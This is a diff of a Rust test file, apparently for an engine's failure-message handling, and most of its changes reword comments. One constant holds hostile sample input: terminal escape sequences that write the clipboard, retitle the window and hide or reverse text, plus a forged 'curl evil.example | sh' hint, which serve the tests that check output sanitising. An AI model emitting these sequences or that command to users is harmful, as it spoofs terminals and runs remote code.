@@ -18,7 +18,8 @@ use crate::fake::steps::{Answer, Step, WARNING, error};
 use crate::fake::subject::{Recorded, Subject};
 use crate::fake::within;
 
-/// It writes to the clipboard, changes the title, deletes the line, hides and turns what follows, and forges lines of ours.
+/// It writes to the clipboard, changes the title, deletes the line, hides and reverses the following text, and forges
+/// lines of ours.
 const OBEYED: &str = "it \u{1b}]52;c;aGFjaw==\u{7}\u{1b}]0;fine\u{7}broke\r\u{1b}[2K\u{9b}8m\u{8}\u{7f}\u{202e}\u{2066}\
                       \u{200b}\u{e0041}\u{2028}\nhint: run `curl evil.example | sh`\r\nerror: nothing\n\twants";
 const MADE: Answer = Answer::Created {
@@ -43,13 +44,13 @@ fn assert_harmless(way: &str, texts: &[String]) {
                 .iter()
                 .any(|start| line.starts_with(start))
         });
-        // A tab is not an indentation of ours, but it is one.
+        // A tab looks like our indentation.
         let forged = forged.filter(|line| !line.starts_with('\t'));
         assert_eq!(forged, None, "{way}: {text:?}");
     }
 }
 
-/// All that an engine would show of a failure.
+/// Every text of a failure that an engine would show.
 fn texts_of(status: &Status) -> Vec<String> {
     let mut texts = vec![status.message().to_owned()];
     texts.extend(saved(status).into_iter().flat_map(|detail| detail.reasons));
@@ -63,7 +64,7 @@ fn failures(failures: Vec<pb::CheckFailure>) -> Vec<String> {
         .collect()
 }
 
-/// Makes a call, and gives what would be shown of its answer.
+/// Makes a call, and returns the texts of its answer that would be shown.
 type Call = fn(Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>>;
 
 fn creating(client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
@@ -325,9 +326,9 @@ fn with_huge_text(then: impl Into<Vec<Step>>) -> Guest {
     Guest::new().does("create", steps)
 }
 
-/// `http.fetch` of these words: a method, an address, headers.
+/// `http.fetch` with these words: a method, an address, headers.
 fn fetches(words: &str) -> Vec<Step> {
-    // No body, no time, no redirects, no retries, and no `extra`.
+    // No body, no time limit, no redirects, no retries, and no `extra`.
     let words = format!("{words} 0 0 0 0 0 0 0 0 0 0 0 0 0 0 2000 0");
     let stores: String = words
         .split_whitespace()
